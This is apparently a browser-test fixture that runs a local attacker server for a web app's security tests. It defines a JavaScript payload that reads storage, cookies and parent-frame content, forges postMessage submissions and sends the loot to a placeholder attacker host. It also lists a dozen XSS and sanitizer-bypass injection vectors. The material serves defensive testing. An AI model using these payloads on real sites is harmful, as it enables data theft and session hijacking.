"""An attacker's server, and the pages with which a hostile researcher could try to run scripts."""

import ssl
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from typing import Any
from urllib.parse import unquote

from tests.browser.site import serve

# The actions of an injected script: read data, and send it away.
STEAL = """
const loot = [];
const take = (name, get) => {
  try { loot.push(name + "=" + get()); } catch (error) { loot.push(name + "!" + error.name); }
};
take("own storage", () => JSON.stringify(localStorage));
take("top storage", () => JSON.stringify(top.localStorage));
take("parent document", () => parent.document.body.innerHTML);
take("top document", () => top.document.title);
take("top address", () => top.location.href);
take("referrer", () => document.referrer);
take("ancestors", () => [...location.ancestorOrigins].join());
take("cookie", () => document.cookie);
take("leave", () => { top.location = "ATTACKER/left"; });
take("lead away", () => { parent.location = "ATTACKER/away"; });
for (const target of [parent, top]) target.postMessage({type: "submit", answers: {forged: "1"}}, "*");
new Image().src = "ATTACKER/loot?" + encodeURIComponent(loot.join("\\n"));
"""


@dataclass
class Attacker:
    """Another party's server; `asked` are the paths that were requested from it."""

    url: str = ""
    asked: list[str] = field(default_factory=list)

    def make_handler(self, *arguments: Any) -> BaseHTTPRequestHandler:
        """Note each request; every page that it serves except /plain runs STEAL."""
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                attacker.asked.append(unquote(self.path))
                script = "" if self.path == "/plain" else STEAL.replace("ATTACKER", attacker.url)
                page = f"<h1>Elsewhere</h1><script>{script}</script>".encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_: Any) -> None:
                """Keep the tests' output readable."""

        return Handler(*arguments)


@contextmanager
def open_attacker(tls: ssl.SSLContext | None = None) -> Iterator[Attacker]:
    """Run an attacker's server, with `tls` for https."""
    attacker = Attacker()
    with serve(attacker.make_handler, tls) as port:
        attacker.url = f"{'https' if tls else 'http'}://127.0.0.1:{port}"
        yield attacker


# Pages with a script in each form. ATTACKER is the server's address, SCRIPT and STEAL the script.
SCRIPTED = (
    "<script>SCRIPT</script>",
    "<script src='ATTACKER/script.js'></script>",
    '<img src="/missing.png" onerror="STEAL">',
    '<svg onload="STEAL"></svg><svg><script>SCRIPT</script></svg>',
    '<details open ontoggle="STEAL">x</details>',
    '<iframe srcdoc="<script>STEAL</script>" title="x"></iframe>',
    '<iframe src="javascript:STEAL" title="x"></iframe>',
    '<object data="ATTACKER/object.html"></object><embed src="ATTACKER/embed.html">',
    '<meta http-equiv="refresh" content="0; url=ATTACKER/refresh">',
    '<base href="ATTACKER/"><base target="_top">',
    '<link rel="prefetch" href="ATTACKER/prefetch"><link rel="import" href="ATTACKER/import">',
    "<template><script>SCRIPT</script></template>"
    "<noscript><p title='</noscript><img src=x onerror=\"STEAL\">'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=\"STEAL\">'>",
)


def fill_in(html: str, attacker: Attacker) -> str:
    """Return a page with the attacker's address and script in the places of their names."""
    inline = STEAL.replace("ATTACKER", attacker.url)
    html = html.replace("ATTACKER", attacker.url).replace("STEAL", inline.replace('"', "&quot;"))
    return html.replace("SCRIPT", inline)
